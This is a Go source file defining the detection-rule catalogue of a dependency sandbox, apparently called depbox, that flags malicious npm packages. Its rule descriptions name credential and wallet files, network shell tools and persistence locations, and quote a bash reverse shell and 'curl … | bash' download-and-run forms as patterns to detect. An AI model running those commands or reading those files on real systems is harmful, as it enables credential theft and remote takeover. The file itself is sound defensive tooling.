package verdict

import (
	"slices"
	"strings"
)

// Rule IDs. They are stable: a rule may be reworded or retuned, never
// renumbered, and a retired ID is not reused.
const (
	RuleCanaryExfiltration = "DBX001"
	RuleMaliciousPackage   = "DBX002"
	RuleIOCContact         = "DBX003"
	RuleIncomplete         = "DBX004"
	RuleBaitFileRead       = "DBX005"
	RuleSecretEnvNetwork   = "DBX006"
	RuleShellDownloader    = "DBX007"
	RuleInstallNetwork     = "DBX008"
	RuleInstallProcess     = "DBX009"
	RuleNewNetworkHost     = "DBX010"
	RuleNewCapability      = "DBX011"
	RuleWriteOutsideTmp    = "DBX012"
	RuleHookBypass         = "DBX013"
	RuleUnattributed       = "DBX014"
	RuleVulnerable         = "DBX015"
	RuleNewBehavior        = "DBX016"
	RuleCrossInvocation    = "DBX017"
	RuleTimeBomb           = "DBX018"
	RuleRemoteCode         = "DBX019"
	RuleDropper            = "DBX020"
	RulePersistence        = "DBX021"
)

// Rule describes one verdict rule.
type Rule struct {
	// ID is stable, e.g. "DBX001".
	ID string `json:"id"`
	// Name is a short stable slug, e.g. "canary-exfiltration".
	Name string `json:"name"`
	// Severity is the rule's severity. Advisory-based rules take the
	// severity of the advisory; Severity is then their default.
	Severity Severity `json:"severity"`
	// NeedsBaseline is true for rules that compare with the baseline and are
	// skipped when there is none.
	NeedsBaseline bool `json:"needs_baseline"`
	// BaselineAccepts is true for behavioural rules that do not report
	// behaviour the baseline records for the dependency in that phase: the
	// reviewed baseline is the record of accepted behaviour. Rules without
	// it (exfiltration, advisories, indicators, incomplete analysis, hook
	// bypass) fire whatever the baseline says.
	BaselineAccepts bool `json:"baseline_accepts"`
	// Summary is one line.
	Summary string `json:"summary"`
	// Description says what the rule detects.
	Description string `json:"description"`
	// Rationale says why that matters.
	Rationale string `json:"rationale"`
	// Remediation says what to do about a finding.
	Remediation string `json:"remediation"`
}

// Label is "ID name", e.g. "DBX001 canary-exfiltration".
func (r Rule) Label() string { return r.ID + " " + r.Name }

var catalogue = []Rule{
	{
		ID: RuleCanaryExfiltration, Name: "canary-exfiltration", Severity: Critical,
		Summary: "A canary secret left the sandbox",
		Description: "A value of one of the canary secrets depbox plants (AWS keys, session token, database URL, API tokens, " +
			"bait-file contents, the credentials of the fake cloud metadata endpoints) was seen in outbound network data, a DNS " +
			"name, a process argument or a written file: whole or at least 12 of its random characters in a row, raw, base64, " +
			"base32, hex or URL-encoded, also lower-cased in DNS names, split over DNS labels and queries, or over several " +
			"writes of one package, and inside gzip, zlib, raw deflate or brotli compressed data.",
		Rationale: "The canaries are random per run and exist nowhere else: a dependency that sends one anywhere is " +
			"stealing the function's credentials. There is no legitimate reason for it.",
		Remediation: "Treat the dependency as malicious: remove it or pin a known-good version, rotate any real " +
			"credentials the function had wherever this version ran, and report the package to the registry.",
	},
	{
		ID: RuleMaliciousPackage, Name: "malicious-package", Severity: Critical,
		Summary: "An OSV malicious-package advisory (MAL-) matches the dependency",
		Description: "The dependency's name and version match an OSV record of kind malicious (a MAL- record from the " +
			"OpenSSF malicious-packages feed or a registry takedown). A package bundled into the function whose version is " +
			"unknown (no lockfile entry, no package.json in its source map) is matched by name only: a medium finding, a " +
			"warning at the default threshold, until --lockfile gives its version.",
		Rationale: "A MAL- record is a verdict, not a vulnerability: the version was published to attack its users. " +
			"Its behaviour may not show in the sandbox (it may wait for a date, a host name, a real cloud account).",
		Remediation: "Remove the dependency or move to a version the advisory does not cover; assume anything that " +
			"installed or ran it is compromised and rotate credentials.",
	},
	{
		ID: RuleIOCContact, Name: "ioc-contact", Severity: Critical,
		Summary: "The dependency contacted an indicator of compromise from an advisory",
		Description: "A domain, URL or IP address that an OSV advisory lists as an indicator of compromise " +
			"(database_specific.iocs, or Leitwacht's indicators_observed; defanged forms such as x[.]com and hxxps:// are read) " +
			"was resolved or connected to. Reserved and special-use names (example.com, *.example, *.test, *.invalid, " +
			"localhost, *.local) and documentation, private, loopback and link-local addresses are never indicators. " +
			"An indicator that names shared infrastructure (github.com, workers.dev) or that records about many unrelated " +
			"packages list (webhook.site) is context: the finding is low.",
		Rationale: "Indicators are the infrastructure of a known campaign; reaching one ties the dependency to that campaign " +
			"even when the package itself has no advisory yet. A service everybody uses ties it to nothing.",
		Remediation: "Treat the dependency as malicious (see DBX002); check which package in its chain made the contact " +
			"with the evidence's phase and path.",
	},
	{
		ID: RuleIncomplete, Name: "analysis-incomplete", Severity: Critical,
		Summary: "The analysis did not complete: events were lost, the sandbox failed or a phase timed out",
		Description: "The profile is marked incomplete (a fatal problem: event drops, sandbox failure, a timed-out or " +
			"killed process, an advisory source that could not be read), or a dependency's phase ended by timeout or kill.",
		Rationale: "depbox fails closed: behaviour it did not see cannot be judged, and malware stalls or crashes the " +
			"analysis on purpose. `depbox gate` exits 3 for an incomplete analysis, whatever else it found.",
		Remediation: "Read the problem's message; re-run with --log-level debug. Raise the time or memory limits if a " +
			"legitimate dependency needs them; a dependency that always times out in the sandbox deserves a closer look.",
	},
	{
		ID: RuleBaitFileRead, Name: "bait-file-read", Severity: High, BaselineAccepts: true,
		Summary: "The dependency read a credential file",
		Description: "A file that holds credentials was opened for reading: ~/.aws/credentials or ~/.aws/config, ~/.npmrc, " +
			"anything under ~/.ssh/, .env files, ~/.netrc, ~/.git-credentials, ~/.docker/config.json, ~/.kube/config, " +
			"any process's /proc/<pid>/environ or /proc/<pid>/mem, /etc/shadow, a browser's credential stores (Login Data, " +
			"Cookies, Local State, logins.json, key4.db in a Chrome, Chromium, Brave, Edge, Opera, Vivaldi or Firefox " +
			"profile) or a cryptocurrency wallet (~/.electrum/wallets/, wallet.dat, an Ethereum keystore, Exodus, Solana's " +
			"id.json). Paths are matched by suffix, wherever " +
			"HOME is; failed opens count too. Only looking (a stat or a directory listing, with no read) is low: it learns " +
			"whether the file is there, not what it holds. High when the same package, in the same phase, also reached out (a " +
			"connection or DNS name that DBX006 counts as network, or a process other than its own lifecycle script); " +
			"medium when it did none of these, since nothing seen could have sent what it read. A read no hook record " +
			"explains is judged the same, on the process it happened in.",
		Rationale: "Credential harvesting is what most malicious packages do first. depbox plants bait copies of " +
			"these files; a library has no reason to read another program's credentials.",
		Remediation: "Find out why the package reads the file (the evidence has the path and phase). A package whose job " +
			"it is (dotenv reading the function's own .env, an AWS credential provider) can be accepted by " +
			"recording it in the baseline (`depbox baseline update`) or with a gate.ignore entry; otherwise " +
			"remove it.",
	},
	{
		ID: RuleSecretEnvNetwork, Name: "secret-env-and-network", Severity: High, BaselineAccepts: true,
		Summary: "The dependency read a secret environment variable and also used the network",
		Description: "The same dependency (in any phases) read an environment variable whose name marks a secret " +
			"(…SECRET…, …TOKEN…, …PASSWORD…, …PRIVATE…, …CREDENTIAL…, API keys, AWS_ACCESS_KEY_ID, database URLs and DSNs) " +
			"and, in a phase, connected to a network peer or resolved a DNS name (a name can carry a secret). Loopback, " +
			"localhost, unix sockets, the instance metadata endpoints and AWS service endpoints (*.amazonaws.com, " +
			"*.api.aws) do not count. Medium in the execute phase (an audit calling the package's exports) when none of " +
			"the variables is one depbox plants a canary in (AWS keys, DATABASE_URL, GITHUB_TOKEN, NPM_TOKEN): a client " +
			"asked to act reads its own settings and calls its service, and the sandbox never set them.",
		Rationale: "Read-a-secret-then-phone-home is the shape of credential theft even when the value is encrypted " +
			"before it leaves, which the canary detector (DBX001) cannot see.",
		Remediation: "Check the destinations in the evidence. An SDK talking to its own service with its own key can be " +
			"accepted by recording it in the baseline (`depbox baseline update`): the rule fires again when a new " +
			"secret or destination appears. Anything else should not be deployed.",
	},
	{
		ID: RuleShellDownloader, Name: "shell-or-downloader", Severity: High, BaselineAccepts: true,
		Summary: "The dependency started a shell, a downloader or inline code",
		Description: "A process was started whose program is a shell (sh, bash, dash, zsh, …), a downloader or network " +
			"tool (curl, wget, nc, socat, ssh, nslookup, dig, host, ping, …), PowerShell or cmd, or an interpreter running " +
			"inline code (node -e/-p, python -c, perl -e, …). In the install phase `sh -c <script>` is how lifecycle " +
			"scripts run and is not counted (unless its script connects through bash's /dev/tcp or /dev/udp, as reverse " +
			"shells do: `bash -i >& /dev/tcp/host/port 0>&1`), and neither is `node -e` whose code only loads one of the package's own " +
			"files (`try{require('./postinstall')}catch(e){}`): that is the package's install script, written inline. " +
			"In every phase, `python -c` whose code only imports sys or platform and prints facts about the interpreter " +
			"(version, executable, prefixes, platform) is a version probe, not inline code: node-gyp's " +
			"`python3 -c 'import sys; print(\"%s.%s.%s\" % sys.version_info[:3]);'`. " +
			"What the script starts is counted. An attempt to run such a program that does not exist counts the same " +
			"(the sandbox runs a stand-in that fails like a missing command, so the attempt is seen). Medium when every " +
			"such process is a shell whose command line only runs programs that look up local state (cat, head, tail, " +
			"hostname, ps, uname, echo, grep, cut, …) with no expansion, quoting or redirection but to /dev/null: " +
			"node-machine-id reading /etc/machine-id, pstree.remy running ps.",
		Rationale: "Droppers fetch and run second stages this way; libraries have little reason to shell out inside a " +
			"Lambda function, where most of these programs do not even exist.",
		Remediation: "Read the command line in the evidence. If the package legitimately shells out (an image converter " +
			"calling its binary through sh), accept it in the baseline; otherwise remove it.",
	},
	{
		ID: RuleInstallNetwork, Name: "install-network", Severity: High, BaselineAccepts: true,
		Summary: "A lifecycle script used the network",
		Description: "During the install phase (preinstall, install, postinstall scripts) the dependency resolved a name " +
			"or connected to a non-loopback peer. Medium when the phase only fetched something: every connection went to " +
			"port 443 of a name the package resolved, every name it resolved it connected to, all of it explained by a " +
			"hook record, and no other rule but install-process (and a low ioc-contact) fired on its install phase — " +
			"an installer downloading its own binaries (puppeteer's browser, prisma's engines). A secret or credential-" +
			"file read, a canary, a shell or downloader, a shipped or written binary run, fetched code run, a name only " +
			"resolved (a DNS beacon), an address or another port keeps it high.",
		Rationale: "Install scripts run on developer machines and CI with their credentials, before any code review of " +
			"the installed files; downloading or uploading there is the most common malware delivery. Legitimate " +
			"binary downloads (prebuilt native modules) should come from the lockfile, not from a script.",
		Remediation: "Use a version without the install script, vendor the binary, or install with --ignore-scripts. If " +
			"the download is expected, accept it in the baseline.",
	},
	{
		ID: RuleInstallProcess, Name: "install-process", Severity: Medium, BaselineAccepts: true,
		Summary: "A lifecycle script started processes",
		Description: "During the install phase the dependency's lifecycle script started programs (other than the " +
			"`sh -c` that runs the script itself).",
		Rationale: "Building a native addon (node-gyp, make, cc) is legitimate; anything else at install time deserves a " +
			"look, since it runs wherever the bundle is installed.",
		Remediation: "Check the command lines. Prefer versions without install scripts; accept the build in the baseline " +
			"when it is expected.",
	},
	{
		ID: RuleNewNetworkHost, Name: "new-network-host", Severity: High, NeedsBaseline: true,
		Summary: "The dependency contacted a host its baseline does not have",
		Description: "A host name or address the dependency connected to or resolved is not among the hosts the " +
			"baseline records for a dependency of the same name (at any install path, in any phase). A dependency that is " +
			"not in the baseline at all has only new hosts.",
		Rationale: "A changed network footprint after an upgrade is the clearest signal of a compromised release; " +
			"exfiltration needs a destination.",
		Remediation: "Review the destinations. If the new behaviour is expected, accept it with `depbox baseline update` " +
			"(the baseline change goes through review like code).",
	},
	{
		ID: RuleNewCapability, Name: "new-capability", Severity: High, NeedsBaseline: true,
		Summary: "The dependency newly loads a native addon, evaluates code or calls process.binding",
		Description: "The dependency shows the native-addon, eval or process.binding capability that no phase of its " +
			"baseline (same name, any install path) has.",
		Rationale: "These are how code hides from review and from depbox's hooks: a native addon runs outside the " +
			"JavaScript hooks, eval runs code that is not in the package's files, process.binding reaches internals " +
			"directly. Appearing in an upgrade, they mean the package changed how it works.",
		Remediation: "Diff the package versions (npm diff) to see why; accept with `depbox baseline update` if expected.",
	},
	{
		ID: RuleWriteOutsideTmp, Name: "write-outside-tmp", Severity: High, BaselineAccepts: true,
		Summary: "The dependency wrote a file outside /tmp",
		Description: "A file was opened for writing outside /tmp (and outside /dev/null, the standard streams, the " +
			"process's own file descriptors and a thread's own name in /proc/…/comm). Install-phase writes inside the " +
			"dependency's own install directory (build output) are not counted. A write whose every open failed changed " +
			"nothing: it is reported as an attempt, at medium.",
		Rationale: "On Lambda only /tmp is writable; a write elsewhere tries to plant persistence, tamper with other " +
			"packages or the function's code, or overwrite configuration.",
		Remediation: "Find the path in the evidence. Make the package write to /tmp (often an option such as a cache " +
			"directory), accept it in the baseline, or remove the package.",
	},
	{
		ID: RuleHookBypass, Name: "hook-bypass", Severity: High,
		Summary: "The dependency tampered with depbox's hooks, forged their records or went around them",
		Description: "The dependency modified depbox's in-process hooks or called node's internals directly (hook-tamper), " +
			"started a child process outside them (unhooked-child), or forged hook records: marker paths without the " +
			"hook's proof, or records the syscall stream contradicts (these explain nothing and never blame the package " +
			"they name). Also behaviour the syscall stream shows that no genuine record explains, when it is sensitive " +
			"(a credential read, a shell or downloader, a write outside /tmp, a network connection, a canary leaving): " +
			"then on the process where it happened, naming the packages loaded there, beside the rule the behaviour " +
			"itself breaks at its own severity.",
		Rationale: "Evading instrumentation is itself evidence of intent; what happens after the bypass can only be " +
			"attributed from the syscall stream, and it is never less serious for having hidden.",
		Remediation: "Do not deploy the version; inspect its code for anti-analysis tricks. When the finding names only " +
			"the packages loaded in a process, the evidence's values say what happened; scan each package on its own " +
			"(`depbox audit`) to find which one does it.",
	},
	{
		ID: RuleUnattributed, Name: "unattributed-behaviour", Severity: Medium, BaselineAccepts: true,
		Summary: "Behaviour in the dependency's process that no hook record explains",
		Description: "The syscall stream of the dependency's process shows files, network, processes or environment " +
			"access that the in-process hooks did not record. Only the routine part: credential reads, shells and " +
			"downloaders, writes outside /tmp, network connections and canaries are judged by their own rules and DBX013.",
		Rationale: "depbox never drops what it cannot attribute: behaviour that bypassed the hooks came from native " +
			"code, process.binding or a hooking gap.",
		Remediation: "Look at the unattributed values; they usually go with a native addon or process.binding finding. " +
			"Report a reproducible case if it is a hooking gap.",
	},
	{
		ID: RuleVulnerable, Name: "vulnerable-dependency", Severity: Medium,
		Summary: "An OSV vulnerability advisory matches the dependency",
		Description: "The dependency's name and version match an OSV vulnerability record. The finding takes the " +
			"advisory's severity (critical, high, medium or low; unknown counts as medium). A bundled package of unknown " +
			"version is matched by name only, as a low finding.",
		Rationale: "Known vulnerabilities in a deployed function are exploitable through its events.",
		Remediation: "Upgrade to a fixed version (the advisory lists them), or list the advisory's dependency in " +
			"gate.ignore with the reason it is not exploitable here and an expiry date.",
	},
	{
		ID: RuleNewBehavior, Name: "new-behaviour", Severity: Medium, NeedsBaseline: true,
		Summary: "The dependency does something its baseline does not record",
		Description: "Any other behaviour (files, environment variables, processes, capabilities, ports, install " +
			"scripts, unattributed behaviour) that the baseline does not have for the dependency in that phase. Reads " +
			"of the bundle's own files (/var/task), of /dev/null and the random devices, and what DBX010/DBX011 " +
			"already report are left out.",
		Rationale: "Behaviour drift is how a compromised release shows itself before any advisory exists; at medium " +
			"it is reported without failing the default (high) gate. Set gate.threshold to medium to make any drift fail.",
		Remediation: "Review the drift; accept it with `depbox baseline update`.",
	},
	{
		ID: RuleCrossInvocation, Name: "cross-invocation-state", Severity: Low, BaselineAccepts: true,
		Summary:     "The dependency carries state between invocations in /tmp",
		Description: "A file written during one invocation was read during a later one in the same (warm) sandbox.",
		Rationale: "Lambda reuses environments; state in /tmp survives between requests of different users and is a " +
			"place to stage payloads or leak data between tenants. Caches do this legitimately.",
		Remediation: "Make sure nothing secret or user-specific is cached there; accept known caches in the baseline.",
	},
	{
		ID: RuleTimeBomb, Name: "time-bomb", Severity: High, BaselineAccepts: true,
		Summary: "The dependency scheduled code for much later, and that code acted",
		Description: "A timer of a minute or more that depbox brought forward ran a callback that wrote or deleted a " +
			"file, used the network or DNS, started a process, read a secret variable or loaded code (high); a timer " +
			"of an hour or more whose callback did nothing depbox could see is reported at low. What the callback did " +
			"is also judged by the other rules. A brought-forward timer whose callback never ran makes the analysis " +
			"incomplete (DBX004).",
		Rationale: "Delaying the payload past the few seconds an analysis watches is the oldest sandbox evasion; " +
			"libraries schedule long timers to refresh or clean caches, rarely to reach out on their own.",
		Remediation: "Read the evidence (the delay and what the callback did). A periodic refresh the package documents " +
			"can be accepted in the baseline; an unexplained delayed action should not be deployed.",
	},
}

func init() {
	catalogue = append(catalogue, attackRules...)
}

// attackRules are the rules of attack channels that judge what a payload
// does once it runs: code fetched and evaluated, files shipped or written
// and then executed.
var attackRules = []Rule{
	{
		ID: RuleRemoteCode, Name: "remote-code", Severity: High,
		Summary: "Code fetched from the network was evaluated",
		Description: "Code evaluated at run time (eval, new Function, vm, Module#_compile) or passed on a command line " +
			"(node -e \"$(curl …)\", sh -c \"$(wget -O- …)\") held the marker the fake internet puts into every HTTP answer: " +
			"the package — or the function's own code — downloaded code and ran it. Also a shell command line that runs a download " +
			"without a file between (`curl … | bash`, `wget -O- … | sh`, `bash <(curl …)`, `eval \"$(curl …)\"`), in a " +
			"lifecycle script or a child process; a download saved to a file or piped into `python3 -c`/`node -e` (data " +
			"parsed) is not this. Judged in any code, the function's included.",
		Rationale: "A second stage fetched at run time is what backdoors and droppers do: the code that runs is not the code " +
			"that was reviewed or published, and can change at any time without a new release.",
		Remediation: "Treat the code as compromised: find where it fetches (the evidence has the phase), remove the dependency " +
			"or restore the function's file from source control, and rotate the credentials it could reach.",
	},
	{
		ID: RuleDropper, Name: "dropper", Severity: High, BaselineAccepts: true,
		Summary: "The dependency executed a file it ships or wrote",
		Description: "A program was executed (detached or not, from a lifecycle script, at import or in an invocation) whose " +
			"file lies inside the dependency's own install directory or was written by the dependency — not an interpreter " +
			"or shell running one of its scripts (`sh x.sh`, `node x.js`). A script started by its #! line counts as run by " +
			"its interpreter when that is a language runtime (as esbuild's install script runs its bin/esbuild, a Node " +
			"script), unless the package wrote the file itself; a shipped shell script started by its #! line is judged " +
			"like a binary, since droppers ship exactly that. An exec of a path where no file existed when the run ended " +
			"(a PATH search trying each node_modules/.bin directory npm puts on a lifecycle script's PATH) ran nothing and " +
			"is not counted, unless the package wrote or deleted that path.",
		Rationale: "Droppers ship or download a binary and start it, often detached so that it outlives the install; a " +
			"library inside a Lambda function has little reason to execute files of its own.",
		Remediation: "Inspect the executed file (the evidence has its path). A package that legitimately runs its own tool " +
			"(a compiler, a prebuilt engine) can be accepted in the baseline; otherwise remove it.",
	},
	{
		ID: RulePersistence, Name: "persistence", Severity: High, BaselineAccepts: true,
		Summary: "The dependency installed code that runs later: cron, a service, a shell start-up file, an SSH key",
		Description: "A file was written that makes the system run code later, outside the package: a cron table or " +
			"cron directory, a systemd unit (system or ~/.config/systemd/user), an init script or autostart entry, a shell " +
			"start-up file (~/.bashrc, ~/.profile, ~/.zshrc, /etc/profile…), ~/.ssh/authorized_keys, /etc/ld.so.preload; " +
			"or a job or service was installed with crontab, at or systemctl enable (also when the program is missing: " +
			"the attempt is judged). High; medium for a git hook (.git/hooks: developer tools such as husky install " +
			"them) and for a write whose every open failed (an attempt that changed nothing).",
		Rationale: "Persistence outlives the install or the invocation: a backdoor started at every boot or login, a " +
			"key that lets the attacker log in, a command run by every new shell (nx \"s1ngularity\" added a shutdown to " +
			"~/.bashrc). No library has a reason to touch these files; on Lambda they are not even read, so the " +
			"write is aimed at the build machine or a developer's workstation.",
		Remediation: "Treat the package as malicious: remove it, inspect and restore the file in the evidence on " +
			"every machine that installed this version (cron tables, units, rc files, authorized_keys), and rotate " +
			"credentials. A developer tool that installs git hooks on purpose can be accepted in the baseline.",
	},
}

// Rules returns every rule, ordered by ID.
func Rules() []Rule { return slices.Clone(catalogue) }

// Lookup finds a rule by ID or name, case-insensitively.
func Lookup(idOrName string) (Rule, bool) {
	for _, r := range catalogue {
		if strings.EqualFold(r.ID, idOrName) || strings.EqualFold(r.Name, idOrName) {
			return r, true
		}
	}
	return Rule{}, false
}

func mustRule(id string) Rule {
	r, ok := Lookup(id)
	if !ok {
		panic("verdict: unknown rule " + id)
	}
	return r
}
